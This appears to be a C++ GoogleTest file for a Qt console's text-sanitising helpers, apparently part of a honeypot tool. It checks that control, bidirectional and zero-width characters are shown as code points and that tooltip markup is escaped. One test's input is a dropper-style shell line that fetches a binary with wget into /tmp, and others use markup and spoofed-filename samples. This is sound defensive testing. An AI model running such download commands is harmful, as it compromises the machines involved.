#include "console/model/visible_text.hpp"

#include <gtest/gtest.h>

namespace apiary::console {
namespace {

using namespace Qt::Literals::StringLiterals;

TEST(VisibleTextTest, ShowsControlCharactersByTheirNumber) {
    EXPECT_EQ(visible(u"a\x1b[31mb\n"_s), u"a<U+001B>[31mb<U+000A>"_s);
}

TEST(VisibleTextTest, ShowsBidirectionalControlsInsteadOfObeyingThem) {
    for (const char16_t c : {u'\u202a', u'\u202e', u'\u2066', u'\u2069', u'\u200f'}) {
        const QString shown = visible(QString(c) + u"fdp.exe"_s);
        EXPECT_TRUE(shown.startsWith(u"<U+20"_s)) << shown.toStdString();
        EXPECT_FALSE(shown.contains(c));
    }
}

TEST(VisibleTextTest, ShowsWhatHasNoWidth) {
    EXPECT_EQ(visible(u"ro\u200bot"_s), u"ro<U+200B>ot"_s);
    EXPECT_EQ(visible(u"\ufeffroot"_s), u"<U+FEFF>root"_s);
}

TEST(VisibleTextTest, LeavesTextOfOtherScriptsAlone) {
    EXPECT_EQ(visible(u"Zürich 東京"_s), u"Zürich 東京"_s);
}

TEST(VisibleTextTest, BoundsAPileOfMarks) {
    const QString shown = visible(u"a"_s + QString(50, QChar(0x0301)));
    EXPECT_EQ(shown.count(QChar(0x0301)), 2);
}

TEST(VisibleTextTest, CutsALongTextAndSaysSo) {
    const QString shown = visible(QString(10'000'000, u'x'), 20);
    EXPECT_EQ(shown, QString(20, u'x') + u"…"_s);
}

TEST(VisibleTextTest, WritesBytesAsTheTextLogsDo) {
    EXPECT_EQ(visible(QByteArray("a\\\x00\xff", 4)), u"a\\\\\\x00\\xff"_s);
}

TEST(VisibleTextTest, CutsBytesBetweenEscapes) {
    EXPECT_EQ(visible(QByteArray(10'000'000, '\xff'), 9), u"\\xff\\xff…"_s);
}

TEST(VisibleTextTest, EscapesMarkupInToolTips) {
    EXPECT_EQ(toolTip(u"<img src=x>&"_s), u"<qt>&lt;img src=x&gt;&amp;</qt>"_s);
}

TEST(VisibleTextTest, ATipBreaksALongWordAndNothingElse) {
    EXPECT_EQ(toolTip(u"uname -a; cat /proc/mounts; wget http://203.0.113.7/bins/x86 -O /tmp/x"_s).count(QChar(0x200b)),
              0);
    const QString tip = toolTip(QString(150, u'A'), 150);
    EXPECT_EQ(tip.count(u'A'), 150);
    EXPECT_EQ(tip.count(QChar(0x200b)), 2);
    EXPECT_LE(tip.indexOf(QChar(0x200b)), 70);
}

}  // namespace
}  // namespace apiary::console
